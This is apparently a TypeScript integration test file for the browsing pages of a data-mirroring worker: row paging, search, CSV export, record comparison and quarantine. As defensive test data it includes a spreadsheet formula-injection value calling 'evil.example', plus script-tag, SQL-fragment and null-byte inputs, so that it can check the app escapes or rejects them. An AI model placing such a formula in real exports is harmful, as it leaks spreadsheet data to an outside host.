// The rows of a stream and the page of one record, in front of the real worker: nothing is passed over from page to page, a search
// finds what is there, and a record is compared with the upstream when somebody asks.

import { setTimeout as wait } from 'node:timers/promises'
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest'
import { type Simulator, startSimulator } from '../../src/simulator/simulator.ts'
import { type RowCursor, type RowPage, readRowPage, rowTable, sqlOf } from '../../src/store/book/rows.ts'
import { isAliveSql } from '../../src/store/book/runs.ts'
import { pauseStream } from '../../src/store/book/streams.ts'
import { knownStreams as streams } from '../../src/streams/catalog.ts'
import { type Browsing, openBrowsing } from '../support/browsing.ts'
import { createTestDatabase, hasPostgres } from '../support/database.ts'
import { adminToken, startTestWorker, type TestWorker } from '../support/worker.ts'

const rowsOf = (page: string): string[] =>
  [...page.matchAll(/href="\/records\/assignment\/(\d+)"/g)].map(([, key = '']) => key)
const nextOf = (page: string): string | null =>
  /rel="next" href="([^"]+)"/.exec(page)?.[1]?.replaceAll('&amp;', '&') ?? null
const everything = { text: '', deleted: 'shown' } as const

describe.skipIf(!hasPostgres)('rows and records on the pages', () => {
  const database = createTestDatabase()
  let simulator: Simulator
  let worker: TestWorker
  let browsing: Browsing
  const page = async (path: string) => await (await browsing.get(path)).text()
  const [assignment] = streams

  beforeAll(async () => {
    simulator = await startSimulator({ assignments: 230, notes: 5 })
    // The reconcile behind a first load would mend what is changed here, and may begin at once.
    await database.pool.query('update tidemark.stream set last_reconcile_at = now()')
    worker = await startTestWorker(simulator, database, {
      STREAMS: 'assignment,assignment_note',
      SCHEDULE_ASSIGNMENT: '1h',
      SCHEDULE_ASSIGNMENT_NOTE: '1h',
      SCHEDULE_DELETIONS: '1h',
      // A longer look-back would read again what is changed here.
      LOOKBACK: '1s',
      API_KEY: simulator.credentials.apiKey,
    })
    await worker.live
    browsing = openBrowsing(worker.url)
    await browsing.signIn(adminToken)
    await vi.waitFor(async () => {
      const { rows } = await database.pool.query(
        `select (select count(*)::int from mirror.assignment) as rows, known.last_lookback_at > known.first_read_through_at as "isReadAgain",
           exists (select from tidemark.lease as held where ${isAliveSql}) as "isRead"
         from tidemark.stream as known where name = 'assignment'`,
      )
      // A run would mend what is changed here.
      expect(rows).toEqual([{ rows: 230, isReadAgain: true, isRead: false }])
    }, 60_000)
    await pauseStream(database.pool, { stream: 'assignment', by: 'the test', reason: null })
    // One that began just before, or was about to.
    await wait(500)
    await vi.waitFor(async () => {
      const held = await database.pool.query(`select from tidemark.lease as held where ${isAliveSql}`)
      expect(held.rowCount).toBe(0)
    }, 60_000)
    await database.pool.query(
      `update mirror.assignment set subject = '100% sure_of <b>it</b>' where assignment_id = 17;
       update mirror.assignment set _deleted_at = now(), _deleted_reason = 'absent' where assignment_id = 19`,
    )
  })
  afterAll(async () => {
    await worker?.stop()
    await simulator?.close()
  })

  it('lead from page to page through every row once, though many changed at the same moment', async () => {
    const seen: string[] = []
    for (let path: string | null = '/streams/assignment/rows'; path !== null; ) {
      const shown = await page(path)
      seen.push(...rowsOf(shown))
      path = nextOf(shown)
    }
    expect(seen).toHaveLength(230)
    expect(new Set(seen).size).toBe(230)
  })

  it.each([1, 2, 50])(
    'of a search for a key come once each, that of the key first, with %d to a page',
    async (limit) => {
      const table = await rowTable(database.pool, assignment)
      if (!table) throw new Error('there is no table')
      const search = { ...everything, text: '17' }
      const columns = table.columns.slice(0, 1)
      const seen: string[] = []
      for (let after: RowCursor | null = null, isEnd = false; !isEnd; ) {
        const options = { columns, search, after, limit, mostCharacters: 10 }
        const { rows, next }: RowPage = await readRowPage(database.pool, table, options)
        seen.push(...rows.map(({ key }) => key))
        after = next
        isEnd = next === null
      }
      const all = { columns, search, after: null, limit: 230, mostCharacters: 10 }
      const { rows } = await readRowPage(database.pool, table, all)
      expect(rows.length).toBeGreaterThan(3)
      expect(seen[0]).toBe('17')
      expect(seen).toEqual(rows.map(({ key }) => key))
    },
  )

  it.each([
    ['100%25+sure_of', '17'],
    ['17', '17'],
  ])('are found by %s, whose signs are no pattern', async (text, key) => {
    const shown = await page(`/streams/assignment/rows?q=${text}&column=subject`)
    expect(rowsOf(shown)[0]).toBe(key)
    expect(shown).not.toContain('<b>it')
    expect(rowsOf(await page('/streams/assignment/rows?q=100%25+sure%25of'))).toEqual([])
  })

  it.each([
    ['assignment_id', '17', ['17']],
    ['subject', '100% sure', ['17']],
    ['subject', '100_', []],
    ['no_such_column', 'x', null],
  ])('are found by what %s holds: %s', async (field, value, keys) => {
    const asked = new URLSearchParams({ field, value })
    const found = rowsOf(await page(`/streams/assignment/rows?${asked}`))
    if (keys === null) expect(found).toHaveLength(50)
    else expect(found).toEqual(keys)
  })

  it('are found by an empty field, by a moment, and by yes or no', async () => {
    const { rows } = await database.pool.query(
      `select min(left(planned_start::text, 10)) as day, count(*) filter (where subject is null)::int as empty from mirror.assignment`,
    )
    const count = async (field: string, value: string) => {
      const asked = new URLSearchParams({ field, value })
      return rowsOf(await page(`/streams/assignment/rows?${asked}`)).length
    }
    expect(await count('subject', 'null')).toBe(Math.min(50, rows[0].empty))
    expect(await count('planned_start', rows[0].day)).toBeGreaterThan(0)
    expect((await count('sys_deleted', 'true')) + (await count('sys_deleted', 'false'))).toBe(50)
  })

  it('are found by when they changed here, and those outside are not looked at', async () => {
    await database.pool.query(
      `update mirror.assignment set _synced_at = '2026-01-02 03:04:05+00' where assignment_id in (41, 42)`,
    )
    const between = (from: string, to: string) =>
      page(`/streams/assignment/rows?${new URLSearchParams({ from, to })}`)
    const shown = await between('2026-01-02T03:04', '2026-01-02T03:04:06')
    expect(rowsOf(shown)).toEqual(['42', '41'])
    expect(shown).toMatch(/name="from" value="2026-01-02T03:04"/)
    expect(await between('2026-01-02T03:04', '2026-01-02T03:04:05')).toContain('No row of assignment matches')
    expect(rowsOf(await between('0000-13-99T00:00', 'now'))).toHaveLength(50)
    const table = await rowTable(database.pool, assignment)
    if (!table) throw new Error('there is no table')
    const search = { ...everything, within: { from: null, to: new Date('2026-02-01') } }
    const columns = table.columns.slice(0, 1)
    const options = { columns, search, after: null, limit: 50, mostCharacters: 10 }
    expect(await readRowPage(database.pool, table, options)).toMatchObject({ looked: 2 })
    const { rows } = await database.pool.query(
      `select id from tidemark.run where stream = 'assignment' and inserted > 0 order by id limit 1`,
    )
    const [, address = ''] =
      /href="([^"]+)">Rows of assignment that/.exec(await page(`/runs/${rows[0].id}`)) ?? []
    expect(rowsOf(await page(address.replaceAll('&amp;', '&')))).toHaveLength(50)
  })

  it('say so when nothing is found, and how to widen the search', async () => {
    const shown = await page('/streams/assignment/rows?q=%3Cscript%3E&deleted=hidden')
    expect(shown).toContain('No row of assignment matches “<bdi>&lt;script&gt;</bdi>”')
    expect(shown).toContain('Deleted rows were not searched.')
    expect(shown).toContain('href="/find?q=%3Cscript%3E"')
  })

  it('show deleted ones marked, without them, or them alone', async () => {
    const keys = async (deleted: string) =>
      rowsOf(await page(`/streams/assignment/rows?q=19&deleted=${deleted}`))
    expect(await keys('shown')).toContain('19')
    expect(await keys('hidden')).not.toContain('19')
    expect(await keys('only')).toEqual(['19'])
  })

  it('come with a query that shows the same in Postgres', async () => {
    const table = await rowTable(database.pool, assignment)
    if (!table) throw new Error('there is no table')
    const columns = table.columns.slice(0, 3)
    for (const text of [`100% sure_of <b>it</b>`, `o'clock\\`, '17', '']) {
      const search = { ...everything, text }
      const { rows } = await database.pool.query(sqlOf(table, columns, search, 1_000))
      const paged = await readRowPage(database.pool, table, {
        search,
        columns,
        after: null,
        limit: 1_000,
        mostCharacters: 10,
      })
      expect(rows.map((row) => String(row.assignment_id)).sort()).toEqual(
        paged.rows.map(({ key }) => key).sort(),
      )
    }
  })

  it('end a search whose time is up with what was found, and go on from there', async () => {
    const table = await rowTable(database.pool, assignment)
    if (!table) throw new Error('there is no table')
    await database.pool.query(
      `create table mirror.many as select * from mirror.assignment cross join generate_series(1, 20) as time`,
    )
    const search = { ...everything, text: 'nothing like this' }
    const cut = { ...table, tableSchema: { ...table.tableSchema, stream: { ...assignment, name: 'many' } } }
    const page = await readRowPage(database.pool, cut, {
      search,
      columns: [],
      after: null,
      limit: 50,
      mostCharacters: 10,
      enoughMs: 0,
    })
    expect(page).toMatchObject({ rows: [], looked: 2_000, isCut: true, next: { at: expect.any(String) } })
  })

  it('are given as CSV, texts quoted where they must be', async () => {
    const answer = await browsing.get('/streams/assignment/rows.csv?column=subject&q=17&deleted=hidden')
    expect(answer.headers.get('content-disposition')).toBe('attachment; filename="assignment.csv"')
    const [head, ...lines] = (await answer.text()).trimEnd().split('\r\n')
    expect(head).toBe('assignment_id,subject,_synced_at,_deleted')
    expect(lines.find((line) => line.startsWith('17,'))).toMatch(
      /^17,100% sure_of <b>it<\/b>,\d{4}-.*Z,false$/,
    )
    const all = await (await browsing.get('/streams/assignment/rows.csv')).text()
    expect(all.match(/^\d+,/gm)).toHaveLength(230)
    expect((await browsing.get('/streams/nothing/rows.csv')).status).toBe(404)
  })

  it('are given as CSV with nothing in it that a spreadsheet would run, and to programs as they are', async () => {
    const { rows } = await database.pool.query<{ key: string; was: string; version: string }>(
      `select assignment_id::text as key, subject as was, row_version::text as version from mirror.assignment where assignment_id in (41, 42) order by 1`,
    )
    const values = ['=HYPERLINK("https://evil.example?"&A1)', '\r+1']
    for (const [at, value] of values.entries())
      await database.pool.query(
        'update mirror.assignment set subject = $1, row_version = -row_version where assignment_id = $2',
        [value, rows[at]?.key],
      )
    const csv = async (more = '') => {
      const address = `/streams/assignment/rows.csv?column=subject&column=row_version&q=`
      const texts = ['41', '42'].map((key) => page(`${address}${key}${more}`))
      return (await Promise.all(texts)).join('')
    }
    const version = (at: number) => `-${rows[at]?.version}`
    const harmless = await csv()
    expect(harmless).toContain(`41,${version(0)},"'=HYPERLINK(""https://evil.example?""&A1)",`)
    expect(harmless).toContain(`42,${version(1)},"'\r+1",`)
    const raw = await csv('&raw=1')
    expect(raw).toContain(`41,${version(0)},"=HYPERLINK(""https://evil.example?""&A1)",`)
    expect(raw).toContain(`42,${version(1)},"\r+1",`)
    expect(await page('/streams/assignment/rows?q=41')).toContain('rows.csv?q=41&amp;raw=1')
    for (const { key, was, version } of rows)
      await database.pool.query(
        'update mirror.assignment set subject = $1, row_version = $2 where assignment_id = $3',
        [was, version, key],
      )
  })

  it('are given as CSV with all values, a few at a time where they are large (P10)', async () => {
    const { rows: before } = await database.pool.query<{ key: string; was: string }>(
      `select assignment_id::text as key, subject as was from mirror.assignment where assignment_id between 60 and 65`,
    )
    await database.pool.query(
      `update mirror.assignment set subject = repeat('x', 900000) where assignment_id between 60 and 65`,
    )
    const table = await rowTable(database.pool, assignment)
    if (!table) throw new Error('there is no table')
    const columns = table.columns.filter(({ name }) => name === 'subject')
    const options = {
      columns,
      search: everything,
      limit: 500,
      mostCharacters: 1_000_000,
      mostBytes: 2_000_000,
    }
    // What is empty takes no room.
    const empty = { ...columns[0], name: 'quite_empty' } as (typeof columns)[number]
    await database.pool.query('alter table mirror.assignment add column quite_empty text')
    const sparse = { ...options, columns: [empty], after: null, limit: 20 }
    expect((await readRowPage(database.pool, table, sparse)).rows).toHaveLength(20)
    await database.pool.query('alter table mirror.assignment drop column quite_empty')
    const keys: string[] = []
    for (let after: RowCursor | null = null, pages = 0; pages === 0 || after !== null; pages++) {
      const { rows, next }: RowPage = await readRowPage(database.pool, table, { ...options, after })
      keys.push(...rows.map(({ key }) => key))
      const bytes = rows.reduce((sum, { values }) => sum + (values[0]?.length ?? 0), 0)
      expect(bytes).toBeLessThan(2_000_000)
      after = next
    }
    const { rows: stored } = await database.pool.query('select from mirror.assignment')
    expect(new Set(keys).size).toBe(stored.length)
    const one = await readRowPage(database.pool, table, { ...options, after: null, mostBytes: 1 })
    expect(one.rows).toHaveLength(1)
    const csv = await page('/streams/assignment/rows.csv?column=subject')
    expect(csv.match(/^\d+,x{900000},/gm)).toHaveLength(6)
    for (const { key, was } of before)
      await database.pool.query('update mirror.assignment set subject = $1 where assignment_id = $2', [
        was,
        key,
      ])
  })

  it('cannot be asked for by a crooked address', async () => {
    for (const query of [
      'at=yesterday&key=1',
      'at=2026-99-99+00:00:00%2B00',
      'column=%22%3Bdrop',
      'changed=x&deleted=y',
      'at=2026-01-01+00:00:00%2B00&key=..',
      'at=2026-01-01+00:00:00%2B00&key=9223372036854775808',
      'at=2026-02-30+00:00:00%2B00&key=1',
      'at=999999-12-31+00:00:00%2B00&key=1',
    ])
      expect((await browsing.get(`/streams/assignment/rows?${query}`)).status).toBe(200)
  })

  it('show one record, and what was noted about its key', async () => {
    await database.pool.query(
      `insert into tidemark.late_arrival (stream, key, version, distance, late_ms) values ('assignment', '23', 7, 1, 6000);
       insert into tidemark.difference (stream, key, cause, fields, run_id, cure) values ('assignment', '23', 'silent', '{subject}', 1, 'written')`,
    )
    const shown = await page('/records/assignment/23')
    for (const text of [
      'Late commit caught',
      'became visible 6 s after',
      'Differed: silent',
      'First came',
      'tidemark explain assignment 23',
    ])
      expect(shown).toContain(text)
    expect(await page('/records/assignment/19')).toContain(
      '<b>Deleted.</b> The record no longer exists upstream,',
    )
    for (const path of [
      '/records/assignment/999999',
      '/records/assignment/abc',
      '/records/nothing/1',
      '/records/assignment/1%00',
    ])
      expect([path, (await browsing.get(path)).status]).toEqual([path, 404])
  })

  it('compare a record with the upstream by one request, and only for those who may act', async () => {
    const path = '/records/assignment/17/compare'
    expect((await fetch(worker.url + path, { method: 'POST' })).status).toBe(401)
    simulator.requests.start()
    const shown = await (await browsing.submit(path)).text()
    // Runs of the worker may ask for other records meanwhile.
    const asked = simulator.requests.entries.map((one) => one.path).filter((one) => one.endsWith('/17'))
    expect(asked).toEqual(['/api/Assignment/Id/17'])
    simulator.requests.stop()
    expect(shown).toMatch(/these differ: \w+</)
    expect(shown).toMatch(/subject<\/bdi>[\s\S]{0,200}100% sure_of[\s\S]{0,200}<mark>/)
    expect(await (await browsing.submit('/records/assignment/23/compare')).text()).toContain(
      'Agrees with the upstream (',
    )
    const stale = await browsing.submit(path, { csrf: 'of another session' })
    expect(stale.status).toBe(403)
  })

  it('are found among all streams by one search, with runs and fields of that name', async () => {
    const shown = await page('/find?q=17')
    expect(rowsOf(shown)[0]).toBe('17')
    const [run] = (await database.pool.query('select id::text from tidemark.run limit 1')).rows
    expect(await page(`/find?q=${run.id}`)).toContain(`href="/runs/${run.id}"`)
    expect(await page('/find?q=subject')).toMatch(
      /field <a href="\/streams\/assignment\/fields\?search=Subject">/,
    )
    expect(await page('/find?q=run+99999999')).toContain('There is no run 99999999.')
    const nothing = await page('/find?q=%3Cnothing%3E')
    expect(nothing).toContain('No row found')
    expect(nothing).not.toContain('<nothing>')
    expect(await page('/find?q=assignment+99999')).toContain('href="/records/assignment/99999"')
    expect(await page('/find')).toContain('href="/streams/assignment_note/rows"')
  })

  it('that are in quarantine are found by their key, which the list of the quarantine names (P18)', async () => {
    const { rows } = await database.pool.query(
      `insert into tidemark.quarantine (stream, reason, record, key, fingerprint)
       values ('assignment', 'no row <version>', '{"AssignmentId": 60899}', '60899', 'found') returning id::text`,
    )
    const [{ id }] = rows
    for (const path of ['/find?q=60899', '/find?q=assignment+60899'])
      expect(await page(path)).toMatch(
        new RegExp(
          `In quarantine</h2>[\\s\\S]*href="/records/assignment/60899">.*no row &lt;version&gt;.* href="/quarantine\\?after=${BigInt(id) - 1n}"`,
        ),
      )
    expect(await page('/find?q=6089')).not.toContain('In quarantine')
    expect(await page('/quarantine')).toContain('href="/records/assignment/60899"')
    await database.pool.query('update tidemark.quarantine set dropped_at = now() where id = $1', [id])
    expect(await page('/find?q=60899')).not.toContain('In quarantine')
  })

  it('lead to the run that wrote them, which says what it did', async () => {
    const [, run = ''] = /href="\/runs\/(\d+)"/.exec(await page('/records/assignment/29')) ?? []
    const shown = await page(`/runs/${run}`)
    expect(shown).toMatch(/Run \d+: (incremental|reconcile) of assignment/)
    expect(shown).toMatch(/<dt>New<\/dt><dd>230<small>rows/)
    expect(shown).toMatch(/[\d:.]{12} {2}\w+ of assignment begins\n[\s\S]+done: 230 new, .* marked deleted\./)
    for (const path of ['/runs/999999', '/runs/x', '/runs/1e3', `/runs/${'9'.repeat(30)}`])
      expect([path, (await browsing.get(path)).status]).toEqual([path, 404])
    const { rows } = await database.pool.query<{ id: string }>(
      `insert into tidemark.run (stream, kind, status, started_at, finished_at, host, pid, error)
       values ('assignment', 'lookback', 'failed', now(), now(), 'a', 1, 'no answer') returning id`,
    )
    const failed = await page(`/runs/${rows[0]?.id}`)
    expect(failed).toMatch(/What it found<\/h2><p class="quiet">It failed before it could say\./)
    expect(failed).toContain('href="/checkpoints?stream=assignment"')
    expect(await page('/streams/assignment/runs')).toMatch(/<span class="nowrap"><time [^>]+>\d\d:\d\d:\d\d</)
  })

  it('are read again at a time to which only pages that follow count down (P18)', async () => {
    expect(await page('/streams/assignment_note')).toContain('· next read')
    expect(await page('/streams/assignment_note/settings')).not.toContain('· next read')
  })

  it('are read by workers, of which each says what it does', async () => {
    await expect.poll(() => page('/workers')).toContain('One worker')
    const queue = await page('/queue')
    expect(queue).toMatch(/Nothing waits|wait</)
    expect(queue).toContain('every 1 h')
    await database.pool.query(`update tidemark.worker set seen_at = now() - interval '2 minutes'`)
    expect(await page('/workers')).toContain('No worker has been heard from for a minute.')
  })
})
